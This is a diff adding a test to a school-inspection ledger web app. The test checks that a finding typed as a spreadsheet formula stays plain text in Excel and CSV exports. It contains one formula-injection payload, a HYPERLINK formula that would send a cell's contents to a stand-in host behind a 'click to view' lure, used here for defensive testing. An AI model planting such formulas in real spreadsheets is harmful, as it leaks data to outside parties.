@@ -85,3 +85,17 @@ def test_a_school_ledger_holds_only_what_the_school_may_see(web_app):
     office = Browser(web, "office").get("/ledger/export?of=school&code=TA-P01&format=csv").content
     assert len(list(csv.DictReader(io.StringIO(office.decode("utf-8-sig"))))) == 3
     assert unassigned
+
+
+def test_a_finding_typed_as_a_formula_stays_text_in_excel_and_csv(web_app):
+    # Spreadsheet formula injection: what an inspector typed must never run in a ledger.
+    web, app = web_app
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")'
+    open_at_school_a(app, title=evil)
+    office = Browser(web, "office")
+    book = load_workbook(io.BytesIO(office.get("/ledger/export?of=county&format=xlsx").content))
+    cell = book["全县"]["E3"]
+    assert cell.data_type == "s" and cell.value.startswith(evil)
+    body = office.get("/ledger/export?of=county&format=csv").content.decode("utf-8-sig")
+    [row] = list(csv.DictReader(io.StringIO(body)))
+    assert row["问题描述"].startswith("'=HYPERLINK")
